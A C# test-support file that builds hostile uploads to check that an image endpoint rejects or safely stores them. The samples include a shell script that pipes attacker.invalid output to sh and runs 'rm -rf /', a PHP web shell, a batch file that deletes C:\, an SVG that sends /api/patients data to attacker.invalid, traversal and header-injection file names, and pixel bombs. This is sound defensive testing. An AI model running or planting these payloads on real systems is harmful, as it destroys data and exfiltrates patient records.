using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using ImageMagick;
using MediaFiles.Tests.Support;

namespace MediaFiles.Tests.Hostile;

/// <summary>Which app a case runs against: the default limits, or tight ones (256 KB, 4 MP) for the size cases.</summary>
public enum HostileApp
{
    Default,
    Tight,
}

/// <summary>
/// One hostile upload: its bytes (built fresh for every run, so an accepted case never deduplicates
/// against an earlier run), the name and type it is sent with, and what the endpoint must answer:
/// refused with a status, a code and a fragment of the message, or accepted (201) with a safe stored name.
/// </summary>
public sealed record HostileCase(
    string Name,
    Func<byte[]> Build,
    string FileName,
    string? DeclaredType,
    int ExpectedStatus,
    string? ExpectedCode,
    string? ExpectedDetail,
    string? ExpectedStoredName,
    HostileApp App = HostileApp.Default,
    bool Chunked = false,
    bool RawNameHeader = false)
{
    public bool Accepted => ExpectedStatus == 201;

    public override string ToString() => Name;
}

/// <summary>
/// The hostile inputs, all built by the tests themselves: programs and scripts renamed .jpg, HTML and
/// SVG with script, archives, other image types, pixel bombs, truncated images, size limits, type
/// disagreements, hostile file names and polyglots.
/// </summary>
public static class HostileFiles
{
    /// <summary>MediaFiles:Images:MaxBytes of the tight app.</summary>
    public const long TightMaxBytes = 256 * 1024;

    /// <summary>MediaFiles:Images:MaxPixels of the tight app.</summary>
    public const long TightMaxPixels = 4_000_000;

    public const string HtmlPayload = "<html><body><script>alert(document.cookie)</script></body></html>";
    public const string ScriptMarker = "<script>";

    private const string NotAnImage = "This is not an image MediaFiles can read: JPEG, PNG, WebP, HEIC or AVIF are accepted.";

    public static readonly IReadOnlyList<HostileCase> All = Build();

    private static readonly Dictionary<string, HostileCase> ByName = All.ToDictionary(c => c.Name, StringComparer.Ordinal);

    /// <summary>The theory data: every case by name (names serialize; the bytes are built when the case runs).</summary>
    public static TheoryData<string> Names => new(All.Select(c => c.Name));

    /// <summary>The polyglots and trailers: accepted, then served only ever as an image.</summary>
    public static TheoryData<string> PolyglotNames => new(All.Where(c => c.Name.StartsWith("polyglot-", StringComparison.Ordinal)).Select(c => c.Name));

    public static HostileCase Get(string name) => ByName[name];

    private static List<HostileCase> Build()
    {
        var cases = new List<HostileCase>();

        void NotAccepted(string name, Func<byte[]> bytes, string fileName, string? type, string detail) =>
            cases.Add(new HostileCase(name, bytes, fileName, type, 422, "type_not_accepted", detail, null));
        void Mismatch(string name, Func<byte[]> bytes, string fileName, string? type, string detail) =>
            cases.Add(new HostileCase(name, bytes, fileName, type, 422, "type_mismatch", detail, null));
        void Unreadable(string name, Func<byte[]> bytes, string fileName, string? type, string detail) =>
            cases.Add(new HostileCase(name, bytes, fileName, type, 422, "unreadable", detail, null));
        void TooManyPixels(string name, Func<byte[]> bytes, string fileName, string? type, string detail, HostileApp app = HostileApp.Default) =>
            cases.Add(new HostileCase(name, bytes, fileName, type, 422, "too_many_pixels", detail, null, app));
        void Stored(string name, string fileName, string storedName, Func<byte[]>? bytes = null, bool raw = false, HostileApp app = HostileApp.Default) =>
            cases.Add(new HostileCase(name, bytes ?? UniqueJpeg, fileName, "image/jpeg", 201, null, null, storedName, app, RawNameHeader: raw));

        // ------------------------------------------------ programs and scripts renamed .jpg
        NotAccepted("elf-program-named-jpg", TestImages.ElfProgram, "wound.jpg", "image/jpeg", "A Linux program is not accepted");
        NotAccepted("windows-program-named-jpg", TestImages.WindowsProgram, "wound.jpg", "image/jpeg", "A Windows program is not accepted");
        NotAccepted("macho-program-named-jpg", MachO, "wound.jpg", "image/jpeg", "A macOS program is not accepted");
        NotAccepted("macho-universal-program-named-jpg", MachOUniversal, "wound.jpg", "image/jpeg", "A macOS program is not accepted");
        NotAccepted("shell-script-named-jpg", () => Utf8("#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\nrm -rf /\n"), "wound.jpg", "image/jpeg", NotAnImage);
        NotAccepted("python-script-named-jpg", () => Utf8("#!/usr/bin/env python3\nimport os\nos.system('id')\n"), "wound.jpg", "image/jpeg", NotAnImage);
        NotAccepted("php-web-shell-named-jpg", () => Utf8("<?php system($_GET['cmd']); ?>"), "wound.jpg", "image/jpeg", "SVG/XML or HTML is not accepted");
        NotAccepted("windows-batch-named-jpg", () => Utf8("@echo off\r\ndel /f /q C:\\*.*\r\n"), "wound.jpg", "image/jpeg", NotAnImage);

        // ------------------------------------------------ markup with script
        NotAccepted("html-with-script-named-jpg", () => Utf8(HtmlPayload), "wound.jpg", "image/jpeg", "SVG/XML or HTML is not accepted");
        NotAccepted("html-with-script-as-html", () => Utf8("<!DOCTYPE html>" + HtmlPayload), "wound.html", "text/html", "SVG/XML or HTML is not accepted");
        NotAccepted("html-after-whitespace", () => Utf8("\r\n\t  " + HtmlPayload), "wound.jpg", "image/jpeg", "SVG/XML or HTML is not accepted");
        NotAccepted("html-with-utf8-bom", () => [0xEF, 0xBB, 0xBF, .. Utf8(HtmlPayload)], "wound.jpg", "image/jpeg", NotAnImage);
        NotAccepted("svg-with-script-as-svg", SvgWithScript, "wound.svg", "image/svg+xml", "SVG/XML or HTML is not accepted");
        NotAccepted("svg-with-script-named-jpg", SvgWithScript, "wound.jpg", "image/jpeg", "SVG/XML or HTML is not accepted");

        // ------------------------------------------------ archives and documents
        NotAccepted("zip-archive-named-jpg", ZipWithHtml, "wound.jpg", "image/jpeg", "A ZIP archive (or Office document) is not accepted");
        NotAccepted("pdf-with-javascript-named-jpg", PdfWithJavaScript, "wound.jpg", "image/jpeg", "PDF is not accepted");
        NotAccepted("plain-text-named-jpg", TestImages.TextFile, "notes.jpg", "image/jpeg", NotAnImage);
        NotAccepted("random-bytes-named-jpg", () => RandomBytes(4096, seed: 7), "wound.jpg", "image/jpeg", NotAnImage);
        NotAccepted("one-byte", () => [0xFF], "wound.jpg", "image/jpeg", NotAnImage);

        // ------------------------------------------------ other image and media types
        NotAccepted("gif", () => TestImages.GifImage, "wound.gif", "image/gif", "GIF is not accepted: save it as PNG or JPEG.");
        NotAccepted("gif-named-jpg", () => TestImages.GifImage, "wound.jpg", "image/jpeg", "GIF is not accepted: save it as PNG or JPEG.");
        NotAccepted("bmp", () => Encode(MagickFormat.Bmp, 16, 16), "wound.bmp", "image/bmp", "BMP is not accepted");
        NotAccepted("tiff-little-endian", () => Encode(MagickFormat.Tiff, 16, 16), "wound.tif", "image/tiff", "TIFF is not accepted");
        NotAccepted("tiff-big-endian-header", () => Padded([0x4D, 0x4D, 0x00, 0x2A, 0x00, 0x00, 0x00, 0x08]), "wound.tiff", "image/tiff", "TIFF is not accepted");
        // HEIC and AVIF are photos now: a header with nothing after it cannot be read, and the name must agree.
        Unreadable("heic-ftyp-only", () => IsoMedia("heic", "mif1heic"), "IMG_0001.HEIC", "image/heic", "The file starts like a HEIC image but its header cannot be read");
        Mismatch("heic-ftyp-named-jpg", () => IsoMedia("heic", "mif1heic"), "IMG_0001.jpg", "image/jpeg", "The file is a HEIC image but is named .jpg: rename it to .heic.");
        Unreadable("avif-ftyp-only", () => IsoMedia("avif", "mif1avif"), "wound.avif", "image/avif", "The file starts like an AVIF image but its header cannot be read");
        Unreadable("truncated-heic", () => TestHeic.TruncatedAsync().GetAwaiter().GetResult(), "IMG_0002.HEIC", "image/heic",
            "The HEIC image could not be decoded: it may be damaged or incomplete.");
        // Sent from the photo drop zone: the bytes say clip, so the clip checks apply (and this header alone is no clip).
        Unreadable("mp4-header-only-sent-as-photo", () => IsoMedia("isom", "isomiso2avc1mp41"), "walk.mp4", "video/mp4", "The MP4 video cannot be read: it may be damaged or incomplete.");

        // ------------------------------------------------ pixel bombs: tiny files, huge pixel areas
        TooManyPixels("png-declaring-60000x60000", () => PngDeclaring(60000, 60000), "bomb.png", "image/png",
            "The image is 60000 × 60000 px: at most 10000 px a side is accepted.");
        TooManyPixels("png-declaring-100000x1", () => PngDeclaring(100000, 1), "strip.png", "image/png",
            "The image is 100000 × 1 px: at most 10000 px a side is accepted.");
        TooManyPixels("png-deflate-bomb-5000x5000", () => PngDeflateBomb(5000, 5000), "bomb.png", "image/png",
            "The image has 25 megapixels: at most 4 are accepted.", HostileApp.Tight);
        TooManyPixels("jpeg-declaring-60000x60000", () => JpegDeclaring(60000, 60000), "bomb.jpg", "image/jpeg",
            "The image is 60000 × 60000 px: at most 10000 px a side is accepted.");
        TooManyPixels("webp-declaring-16383x16383", () => WebPDeclaring(16383, 16383), "bomb.webp", "image/webp",
            "The image is 16383 × 16383 px: at most 10000 px a side is accepted.");
        Unreadable("jpeg-declaring-10000x10000-without-the-data", () => JpegDeclaring(10000, 10000), "bomb.jpg", "image/jpeg",
            "The JPEG image could not be decoded: it may be damaged or incomplete.");

        // ------------------------------------------------ damaged and truncated images
        Unreadable("truncated-jpeg", () => Truncated(NoisyImage(MagickFormat.Jpeg)), "wound.jpg", "image/jpeg",
            "The JPEG image could not be decoded: it may be damaged or incomplete.");
        Unreadable("truncated-png", () => Truncated(NoisyImage(MagickFormat.Png)), "wound.png", "image/png",
            "The PNG image could not be decoded: it may be damaged or incomplete.");
        Unreadable("truncated-webp", () => Truncated(NoisyImage(MagickFormat.WebP)), "wound.webp", "image/webp",
            "it may be damaged or incomplete.");
        Unreadable("jpeg-signature-then-garbage", () => TestImages.GarbageJpeg(), "wound.jpg", "image/jpeg",
            "The file starts like a JPEG image but its header cannot be read");
        Unreadable("jpeg-start-and-end-markers-only", () => [0xFF, 0xD8, 0xFF, 0xD9], "wound.jpg", "image/jpeg",
            "The file starts like a JPEG image but its header cannot be read");
        Unreadable("png-signature-only", () => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A], "wound.png", "image/png",
            "The file starts like a PNG image but its header cannot be read");

        // ------------------------------------------------ sizes
        cases.Add(new HostileCase("zero-bytes", () => [], "wound.jpg", "image/jpeg", 422, "empty", "The file is empty.", null));
        cases.Add(new HostileCase("one-byte-over-the-limit", () => PaddedJpeg(TightMaxBytes + 1), "wound.jpg", "image/jpeg", 413, "too_large",
            "The file is 262,145 bytes: at most 262,144 bytes is accepted for a photo.", null, HostileApp.Tight));
        cases.Add(new HostileCase("one-byte-over-the-limit-chunked", () => PaddedJpeg(TightMaxBytes + 1), "wound.jpg", "image/jpeg", 413, "too_large",
            "The file is larger than 256 KB, the most a photo may be.", null, HostileApp.Tight, Chunked: true));
        cases.Add(new HostileCase("far-over-the-limit-chunked", () => [0xFF, 0xD8, 0xFF, 0xE0, .. RandomBytes(3 * (int)TightMaxBytes, seed: 3)], "wound.jpg", "image/jpeg", 413, "too_large",
            "The file is larger than 256 KB, the most a photo may be.", null, HostileApp.Tight, Chunked: true));
        Stored("exactly-the-limit", "wound.jpg", "wound.jpg", () => PaddedJpeg(TightMaxBytes), app: HostileApp.Tight);

        // ------------------------------------------------ the name or declared type disagrees with the bytes
        Mismatch("png-named-jpg", () => TestUploads.UniquePng(), "wound.jpg", "image/jpeg", "The file is a PNG image but is named .jpg: rename it to .png.");
        Mismatch("webp-named-png", () => TestImages.WebP, "wound.png", "image/png", "The file is a WebP image but is named .png: rename it to .webp.");
        Mismatch("jpeg-declared-png", UniqueJpeg, "wound.jpg", "image/png", "The file was sent as image/png but its content is JPEG (image/jpeg).");
        Mismatch("jpeg-declared-svg", UniqueJpeg, "wound.jpg", "image/svg+xml", "The file was sent as image/svg+xml but its content is JPEG (image/jpeg).");
        Mismatch("jpeg-declared-html", UniqueJpeg, "wound.jpg", "text/html", "The file was sent as text/html but its content is JPEG (image/jpeg).");
        Mismatch("jpeg-named-svg", UniqueJpeg, "wound.svg", "image/svg+xml", "The file is a JPEG image but is named .svg: rename it to .jpg.");
        Mismatch("jpeg-named-html", UniqueJpeg, "wound.html", "text/html", "The file is a JPEG image but is named .html: rename it to .jpg.");
        Mismatch("jpeg-named-exe", UniqueJpeg, "setup.exe", "application/octet-stream", "The file is a JPEG image but is named .exe: rename it to .jpg.");
        Mismatch("jpeg-without-an-extension", UniqueJpeg, "wound", "image/jpeg", "The file is a JPEG image but has no extension: rename it to .jpg.");
        // Shows as "wound‮gpj.exe" = "woundexe.jpg" in a right-to-left-unaware listing; really .exe.
        Mismatch("rtl-override-disguising-exe", UniqueJpeg, "wound\u202Egpj.exe", "image/jpeg", "The file is a JPEG image but is named .exe: rename it to .jpg.");
        Mismatch("name-of-dots-and-exe", UniqueJpeg, "....exe", "image/jpeg", "The file is a JPEG image but is named .exe: rename it to .jpg.");

        // ------------------------------------------------ a form post instead of the raw file
        cases.Add(new HostileCase("multipart-form-post", UniqueJpeg, "wound.jpg", "multipart/form-data; boundary=----x", 415, null,
            "not as a form", null));
        cases.Add(new HostileCase("urlencoded-form-post", () => Utf8("file=%FF%D8%FF"), "wound.jpg", "application/x-www-form-urlencoded", 415, null,
            "not as a form", null));

        // ------------------------------------------------ odd names: accepted under a safe stored name
        Stored("name-unix-traversal", "../../etc/passwd.jpg", "passwd.jpg");
        Stored("name-windows-traversal", "..\\..\\Windows\\System32\\drivers\\etc\\hosts.jpg", "hosts.jpg");
        Stored("name-windows-path", "C:\\Users\\x\\wound.jpg", "wound.jpg");
        Stored("name-unc-path", "\\\\server\\share\\wound.jpg", "wound.jpg");
        Stored("name-percent-encoded-traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd.jpg", "passwd.jpg", raw: true);
        Stored("name-double-encoded-traversal", "..%252f..%252fpasswd.jpg", "%2f..%2fpasswd.jpg", raw: true);
        Stored("name-overlong-utf8-slash", "..%c0%af..%c0%afpasswd.jpg", "%c0%af..%c0%afpasswd.jpg", raw: true);
        Stored("name-nul", "a\0b.jpg", "a_b.jpg");
        Stored("name-header-injection", "wound\r\nSet-Cookie: session=evil.jpg", "wound__Set-Cookie_ session=evil.jpg");
        Stored("name-control-characters", "bell\u0007\u001b[31mred\u007f.jpg", "bell__[31mred_.jpg");
        Stored("name-rtl-override", "photo\u202Egnp.jpg", "photo_gnp.jpg");
        Stored("name-bidi-isolates-and-bom", "\uFEFFwound\u2066\u2069.jpg", "_wound__.jpg");
        Stored("name-300-characters", new string('w', 296) + ".jpg", new string('w', 96) + ".jpg");
        Stored("name-dots-then-extension", "....jpg", "upload.jpg");
        Stored("name-only-dots", "...", "upload.jpg");
        Stored("name-hidden-file", ".jpg", "upload.jpg");
        Stored("name-reserved-characters", "a<b>c:d\"e|f?g*h.jpg", "a_b_c_d_e_f_g_h.jpg");
        Stored("name-windows-device-con", "CON.jpg", "_CON.jpg");
        Stored("name-windows-device-nul-lowercase", "nul.jpg", "_nul.jpg");
        Stored("name-windows-device-com1", "COM1.jpg", "_COM1.jpg");
        Stored("name-windows-device-lpt9-two-extensions", "lpt9.tar.jpg", "_lpt9.tar.jpg");
        Stored("name-windows-device-aux-trailing-space", "AUX .jpg", "_AUX.jpg");
        Stored("name-trailing-dots-and-spaces", "wound.jpg. . .", "wound.jpg");
        Stored("name-empty", "", "upload.jpg");

        // ------------------------------------------------ polyglots and trailers: still a JPEG, accepted
        Stored("polyglot-jpeg-then-html", "wound.jpg", "wound.jpg", () => [.. UniqueJpeg(), .. Utf8(HtmlPayload)]);
        Stored("polyglot-jpeg-then-zip", "wound.jpg", "wound.jpg", () => [.. UniqueJpeg(), .. ZipWithHtml()]);
        Stored("polyglot-jpeg-with-script-in-comment", "wound.jpg", "wound.jpg", () => WithComment(UniqueJpeg(), HtmlPayload));
        Stored("polyglot-jpeg-then-motion-photo-video", "PXL_20260314_184207.MP.jpg", "PXL_20260314_184207.MP.jpg",
            () => [.. UniqueJpeg(), .. IsoMedia("mp42", "mp42isom"), .. RandomBytes(2048, seed: 11)]);

        return cases;
    }

    /// <summary>The bytes a polyglot carries beyond the image, which no derived variant may contain.</summary>
    public static byte[][] PayloadMarkers(string caseName) => caseName switch
    {
        "polyglot-jpeg-then-html" or "polyglot-jpeg-with-script-in-comment" => [Utf8(ScriptMarker), Utf8("<html>")],
        "polyglot-jpeg-then-zip" => [[0x50, 0x4B, 0x03, 0x04], Utf8(ScriptMarker), Utf8("index.html")],
        "polyglot-jpeg-then-motion-photo-video" => [Utf8("ftypmp42")],
        _ => throw new ArgumentOutOfRangeException(nameof(caseName), caseName, "Not a polyglot case."),
    };

    // ---------------------------------------------------------------- builders

    public static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] UniqueJpeg() => TestUploads.UniqueJpeg(320, 240);

    private static byte[] RandomBytes(int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        // Never a known signature by chance.
        bytes[0] = 0x00;
        return bytes;
    }

    private static byte[] Padded(byte[] header, int length = 512)
    {
        var bytes = new byte[length];
        header.CopyTo(bytes, 0);
        for (var i = header.Length; i < length; i++) bytes[i] = (byte)(i * 13);
        return bytes;
    }

    private static byte[] MachO() => Padded([0xCF, 0xFA, 0xED, 0xFE, 0x0C, 0x00, 0x00, 0x01]);

    private static byte[] MachOUniversal() => Padded([0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x02]);

    private static byte[] SvgWithScript() => Utf8(
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
          <script type="text/javascript">fetch('/api/patients').then(r => r.text()).then(t => navigator.sendBeacon('https://attacker.invalid', t));</script>
          <rect width="100" height="100" fill="red"/>
        </svg>
        """);

    private static byte[] PdfWithJavaScript() => Utf8(
        "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A real ZIP archive holding an HTML page with script.</summary>
    private static byte[] ZipWithHtml()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            var entry = zip.CreateEntry("index.html", CompressionLevel.NoCompression);
            using var stream = entry.Open();
            stream.Write(Utf8(HtmlPayload));
        }
        return buffer.ToArray();
    }

    /// <summary>An ISO base media header (ftyp box) with this major brand and compatible brands, padded.</summary>
    private static byte[] IsoMedia(string brand, string compatible)
    {
        var boxLength = 16 + compatible.Length;
        var box = new byte[boxLength];
        BinaryPrimitives.WriteUInt32BigEndian(box, (uint)boxLength);
        Encoding.ASCII.GetBytes("ftyp" + brand).CopyTo(box, 4);
        Encoding.ASCII.GetBytes(compatible).CopyTo(box, 16);
        return [.. box, .. Padded([0x00, 0x00, 0x00, 0x08, (byte)'f', (byte)'r', (byte)'e', (byte)'e'], 256)];
    }

    private static byte[] Encode(MagickFormat format, int width, int height)
    {
        using var image = new MagickImage(MagickColors.Teal, (uint)width, (uint)height);
        image.Format = format;
        return image.ToByteArray();
    }

    /// <summary>A 320 × 240 image of random colour (so its compressed data spans the file).</summary>
    private static byte[] NoisyImage(MagickFormat format)
    {
        using var image = new MagickImage("plasma:", new MagickReadSettings { Width = 320, Height = 240 });
        image.Format = format;
        image.Quality = 90;
        return image.ToByteArray();
    }

    /// <summary>The first half of a file: the header is complete, the image data is cut.</summary>
    private static byte[] Truncated(byte[] bytes) => bytes[..(bytes.Length / 2)];

    /// <summary>
    /// A PNG whose IHDR declares these dimensions (8-bit grey, valid CRCs) followed by a tiny IDAT:
    /// a few dozen bytes claiming billions of pixels.
    /// </summary>
    public static byte[] PngDeclaring(uint width, uint height) =>
        Png(width, height, ZLib(new byte[2]));

    /// <summary>A complete, valid PNG of black pixels: deflate shrinks its width × height bytes about a thousandfold.</summary>
    private static byte[] PngDeflateBomb(int width, int height)
    {
        using var buffer = new MemoryStream();
        using (var z = new ZLibStream(buffer, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            var row = new byte[1 + width]; // filter byte 0, then the row's grey bytes
            for (var y = 0; y < height; y++) z.Write(row);
        }
        return Png((uint)width, (uint)height, buffer.ToArray());
    }

    private static byte[] Png(uint width, uint height, byte[] idat)
    {
        var ihdr = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(ihdr, width);
        BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(4), height);
        ihdr[8] = 8; // bit depth
        ihdr[9] = 0; // grey
        return [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. PngChunk("IHDR", ihdr), .. PngChunk("IDAT", idat), .. PngChunk("IEND", [])];
    }

    private static byte[] ZLib(byte[] data)
    {
        using var buffer = new MemoryStream();
        using (var z = new ZLibStream(buffer, CompressionLevel.Optimal, leaveOpen: true)) z.Write(data);
        return buffer.ToArray();
    }

    private static byte[] PngChunk(string type, byte[] data)
    {
        var typeAndData = (byte[])[.. Encoding.ASCII.GetBytes(type), .. data];
        var chunk = new byte[8 + data.Length + 4];
        BinaryPrimitives.WriteUInt32BigEndian(chunk, (uint)data.Length);
        typeAndData.CopyTo(chunk, 4);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), Crc32(typeAndData));
        return chunk;
    }

    /// <summary>CRC-32 (ISO-HDLC, as PNG uses it).</summary>
    public static uint Crc32(ReadOnlySpan<byte> data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++) crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
        }
        return crc ^ 0xFFFFFFFFu;
    }

    /// <summary>A small real JPEG whose frame header (SOF) is rewritten to declare these dimensions.</summary>
    public static byte[] JpegDeclaring(ushort width, ushort height)
    {
        var jpeg = TestImages.SmallJpeg(seed: 5, width: 64, height: 48);
        var i = 2;
        while (i + 9 < jpeg.Length && jpeg[i] == 0xFF)
        {
            var marker = jpeg[i + 1];
            if (marker is 0xC0 or 0xC1 or 0xC2)
            {
                BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(i + 5), height);
                BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(i + 7), width);
                return jpeg;
            }
            i += 2 + BinaryPrimitives.ReadUInt16BigEndian(jpeg.AsSpan(i + 2));
        }
        throw new InvalidOperationException("No frame header in the JPEG.");
    }

    /// <summary>A lossy WebP (RIFF/VP8) whose key-frame header declares these dimensions (at most 16383), with no image data.</summary>
    public static byte[] WebPDeclaring(int width, int height)
    {
        var frame = new byte[40];
        const uint partitionLength = 10;
        var tag = (1u << 4) | (partitionLength << 5); // key frame, version 0, shown
        frame[0] = (byte)tag;
        frame[1] = (byte)(tag >> 8);
        frame[2] = (byte)(tag >> 16);
        frame[3] = 0x9D;
        frame[4] = 0x01;
        frame[5] = 0x2A;
        BinaryPrimitives.WriteUInt16LittleEndian(frame.AsSpan(6), (ushort)width);
        BinaryPrimitives.WriteUInt16LittleEndian(frame.AsSpan(8), (ushort)height);

        var riff = new byte[20 + frame.Length];
        "RIFF"u8.CopyTo(riff);
        BinaryPrimitives.WriteUInt32LittleEndian(riff.AsSpan(4), (uint)(riff.Length - 8));
        "WEBPVP8 "u8.CopyTo(riff.AsSpan(8));
        BinaryPrimitives.WriteUInt32LittleEndian(riff.AsSpan(16), (uint)frame.Length);
        frame.CopyTo(riff, 20);
        return riff;
    }

    /// <summary>A unique JPEG padded after its end marker with zeros to exactly <paramref name="length"/> bytes.</summary>
    private static byte[] PaddedJpeg(long length)
    {
        var jpeg = UniqueJpeg();
        if (jpeg.Length > length) throw new InvalidOperationException("The JPEG is already larger than the wanted length.");
        var padded = new byte[length];
        jpeg.CopyTo(padded, 0);
        return padded;
    }

    /// <summary>The JPEG with a comment (COM) segment holding <paramref name="text"/> right after its start marker.</summary>
    private static byte[] WithComment(byte[] jpeg, string text)
    {
        var body = Utf8(text);
        var length = body.Length + 2;
        return [0xFF, 0xD8, 0xFF, 0xFE, (byte)(length >> 8), (byte)length, .. body, .. jpeg.AsSpan(2)];
    }
}
